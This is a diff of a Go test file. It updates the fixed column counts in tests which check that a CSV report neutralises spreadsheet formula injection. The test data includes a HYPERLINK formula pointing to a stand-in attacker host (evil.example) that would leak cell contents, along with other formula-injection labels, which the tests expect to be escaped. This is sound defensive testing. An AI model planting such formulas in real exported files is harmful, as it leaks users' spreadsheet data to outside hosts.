@@ -400,7 +400,7 @@ func TestChangesCSVHeaderNeutralised(t *testing.T) {
 	labels := map[string]string{`=HYPERLINK("http://evil.example/"&A2,"x")`: "a", "-2+3": "b", "@SUM(1)": "c", "owner": "-1"}
 	dir := renderChangesOf(t, labels)
 	recs := readCSV(t, filepath.Join(dir, report.ChangesCSV))
-	fixed := 11 // the columns before the labels
+	fixed := 12 // the columns before the labels
 	got := recs[0][fixed:]
 	want := []string{`'-2+3`, `'=HYPERLINK("http://evil.example/"&A2,"x")`, `'@SUM(1)`, "owner"}
 	if !slices.Equal(got, want) {
@@ -425,7 +425,7 @@ func TestLabelColumnsNeverClash(t *testing.T) {
 	for _, f := range []struct {
 		name  string
 		fixed int
-	}{{report.ChangesCSV, 11}, {report.InstancesCSV, 17}} {
+	}{{report.ChangesCSV, 12}, {report.InstancesCSV, 17}} {
 		header := readCSV(t, filepath.Join(dir, f.name))[0]
 		seen := map[string]bool{}
 		for _, h := range header {
